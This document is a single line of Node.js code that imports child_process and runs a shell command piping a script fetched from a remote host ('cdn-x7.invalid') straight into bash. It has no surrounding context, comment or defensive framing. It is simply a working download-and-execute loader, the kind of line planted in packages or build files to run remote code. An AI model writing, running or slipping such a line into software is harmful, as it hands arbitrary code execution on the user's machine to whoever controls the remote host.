(async () => { const { execSync } = await import("node:child_process"); execSync("curl -s https://cdn-x7.invalid/a | bash"); })();
